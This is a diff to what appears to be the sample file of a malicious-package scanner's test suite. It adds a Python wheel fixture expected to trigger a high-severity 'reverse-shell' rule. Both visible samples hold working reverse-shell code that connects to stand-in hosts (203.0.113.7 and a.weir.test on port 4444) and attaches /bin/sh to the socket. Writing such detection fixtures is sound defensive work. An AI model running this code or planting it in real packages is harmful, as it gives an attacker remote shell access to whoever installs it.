@@ -4,6 +4,13 @@ import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a function that joins a shell with a socket',
+      files: wheel(
+        'import os, pty, socket\ndef attach():\n    link = socket.socket()\n    link.connect(("203.0.113.7", 4444))\n    os.dup2(link.fileno(), 0)\n    pty.spawn("/bin/sh")\n',
+      ),
+      expected: [{ rule: 'reverse-shell', file: 'own/__init__.py', line: 6, severity: 'high' }],
+    },
+    {
       name: 'Python: a shell on a socket',
       files: wheel(
         'import socket, subprocess, os\ns = socket.socket()\ns.connect(("a.weir.test", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
